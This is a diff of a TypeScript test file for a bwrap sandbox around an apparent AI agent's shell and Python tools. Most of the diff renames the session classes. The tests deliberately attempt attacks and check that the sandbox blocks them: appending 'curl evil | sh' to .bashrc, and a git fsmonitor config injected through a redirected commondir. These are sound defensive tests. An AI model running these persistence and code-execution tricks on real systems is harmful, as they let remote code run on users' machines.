@@ -6,9 +6,9 @@ import { createServer as createNetServer, type AddressInfo, type Server as NetSe
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, expect, it } from 'vitest';
-import { BashSession } from '../tools/bash/bash-session';
+import { BashShell } from '../tools/bash/shell';
 import { BashTool } from '../tools/bash/bash-tool';
-import { PythonSession } from '../tools/python/python-session';
+import { PythonInterpreter } from '../tools/python/interpreter';
 import type { ToolContext } from '../tools/tool';
 import { Sandbox } from './sandbox';
 import type { SandboxConfig } from './sandbox-config';
@@ -46,9 +46,9 @@ function sandboxWith(config: Partial<SandboxConfig> = {}): Sandbox {
   });
 }
 
-const shells: BashSession[] = [];
-function shellIn(sandbox: Sandbox): BashSession {
-  const s = new BashSession({ cwd: ws, env: { ...process.env, HOME: home }, sandbox });
+const shells: BashShell[] = [];
+function shellIn(sandbox: Sandbox): BashShell {
+  const s = new BashShell({ cwd: ws, env: { ...process.env, HOME: home }, sandbox });
   shells.push(s);
   return s;
 }
@@ -82,7 +82,7 @@ async function until(check: () => boolean, ms: number): Promise<boolean> {
 
 describeWithBwrap('the shell inside the sandbox', () => {
   const sandbox = sandboxWith();
-  let shell: BashSession;
+  let shell: BashShell;
   beforeAll(() => {
     expect(sandbox.status()).toMatchObject({ active: true, backend: 'bwrap' });
     shell = shellIn(sandbox);
@@ -207,7 +207,7 @@ describeWithBwrap('sockets of programs outside in the shared temp dir', () => {
         expect(r.exitCode, p).not.toBe(0);
       }
       // The same probe from outside the sandbox does connect: the test can fail.
-      const outsideShell = new BashSession({ cwd: ws });
+      const outsideShell = new BashShell({ cwd: ws });
       shells.push(outsideShell);
       expect((await outsideShell.run(probe(sockets[1]!))).output).toBe('CONNECTED');
     } finally {
@@ -223,7 +223,7 @@ describeWithBwrap('a workspace that holds the home folder', () => {
     mkdirSync(join(user, '.config', 'fish'), { recursive: true });
     writeFileSync(join(user, '.bashrc'), '# mine\n');
     const sandbox = new Sandbox({ config: { mode: 'workspace-write', network: false, writableRoots: [] }, workspace: homeWs, glassboxHome: gbHome, env: process.env, userHome: user, tmpDir: tmp });
-    const shell = new BashSession({ cwd: homeWs, env: { ...process.env, HOME: user }, sandbox });
+    const shell = new BashShell({ cwd: homeWs, env: { ...process.env, HOME: user }, sandbox });
     shells.push(shell);
     expect((await shell.run('echo "curl evil | sh" >> user/.bashrc')).exitCode).not.toBe(0);
     expect((await shell.run('echo x > user/.config/fish/config.fish')).exitCode).not.toBe(0);
@@ -239,7 +239,7 @@ describeWithBwrap('a git workspace', () => {
     const git = (args: string): string => execSync(`git -c user.email=t@t -c user.name=t ${args}`, { cwd: repo, encoding: 'utf8' });
     git('init -q .');
     const sandbox = new Sandbox({ config: { mode: 'workspace-write', network: false, writableRoots: [] }, workspace: repo, glassboxHome: gbHome, env: process.env, userHome: home, tmpDir: tmp });
-    const shell = new BashSession({ cwd: repo, env: { ...process.env, HOME: home }, sandbox });
+    const shell = new BashShell({ cwd: repo, env: { ...process.env, HOME: home }, sandbox });
     shells.push(shell);
     const commit = await shell.run('echo a > a.txt && git add a.txt && git -c user.email=t@t -c user.name=t commit -qm one && git log --oneline | wc -l');
     expect(commit).toMatchObject({ exitCode: 0, output: '1' });
@@ -264,7 +264,7 @@ describeWithBwrap('a git workspace', () => {
     mkdirSync(repo);
     execSync('git init -q . && git -c user.email=t@t -c user.name=t commit -q --allow-empty -m init', { cwd: repo });
     const sandbox = new Sandbox({ config: { mode: 'workspace-write', network: false, writableRoots: [] }, workspace: repo, glassboxHome: gbHome, env: process.env, userHome: home, tmpDir: tmp });
-    const shell = new BashSession({ cwd: repo, env: { ...process.env, HOME: home }, sandbox });
+    const shell = new BashShell({ cwd: repo, env: { ...process.env, HOME: home }, sandbox });
     shells.push(shell);
     await shell.run(
       `mkdir -p evil && cp -r .git/. evil/ && printf '[core]\\n\\tfsmonitor = "touch ${pwned}; false"\\n' > evil/config; echo "$PWD/evil" > .git/commondir`,
@@ -314,7 +314,7 @@ describeWithBwrap('writableRoots', () => {
 
 describeWithBwrap('python_execute inside the sandbox', () => {
   it('keeps state, writes only inside, cannot read credentials or reach the network', async () => {
-    const py = new PythonSession({ cwd: ws, env: { ...process.env, HOME: home }, sandbox: sandboxWith() });
+    const py = new PythonInterpreter({ cwd: ws, env: { ...process.env, HOME: home }, sandbox: sandboxWith() });
     try {
       const run = async (code: string): Promise<string> => {
         const r = await py.execute(code, { timeoutMs: 20_000 });
